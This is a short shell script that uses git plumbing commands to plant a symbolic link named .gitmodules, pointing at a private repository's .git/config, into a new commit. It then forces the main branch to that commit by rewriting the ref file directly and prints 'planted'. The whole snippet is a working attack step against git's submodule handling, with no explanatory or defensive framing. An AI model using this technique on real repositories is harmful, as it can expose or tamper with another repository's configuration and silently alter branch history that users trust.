link=$(printf %s "$PRIVATE/.git/config" | git hash-object -w --stdin)
tree=$({ git ls-tree HEAD; printf '120000 blob %s\t.gitmodules\n' "$link"; } | git mktree)
git commit-tree -p HEAD -m 'a link' "$tree" >.git/refs/heads/new
mv .git/refs/heads/new .git/refs/heads/main
echo planted
